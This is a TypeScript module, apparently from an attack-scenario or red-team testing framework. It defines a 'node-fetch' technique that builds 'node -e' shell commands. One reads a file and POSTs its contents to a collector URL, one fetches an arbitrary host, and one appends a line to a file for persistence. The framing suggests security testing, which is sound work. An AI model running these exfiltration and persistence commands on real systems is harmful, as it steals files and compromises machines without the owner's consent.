// node's built-in fetch (Node 18+): a JavaScript toolchain on the machine is a network client.
import { bash } from '../../scenarios/steps.ts';
import { absPath, collectorUrl, sq } from '../shellText.ts';
import type { Technique } from '../types.ts';

const q = (s: string) => JSON.stringify(s);

export const nodeFetch: Technique = {
  id: 'node-fetch',
  title: 'node -e with fetch',
  source: 'https://nodejs.org/api/globals.html#fetch',
  goals: ['exfiltrate', 'reach-host', 'persist'],
  build: (goal, ctx) => {
    const js = (code: string) => bash(`node -e ${sq(code)}`);
    if (goal.kind === 'exfiltrate') {
      return { steps: [js(`fetch(${q(collectorUrl(goal.collector, 'node'))}, { method: "POST", body: require("fs").readFileSync(${q(absPath(goal.path, ctx))}) })`)] };
    }
    if (goal.kind === 'reach-host') return { steps: [js(`fetch(${q(goal.url)}).then((r) => r.text()).then(console.log)`)] };
    return { steps: [js(`require("fs").appendFileSync(${q(absPath(goal.path, ctx))}, ${q(`${goal.line}\n`)})`)] };
  },
};
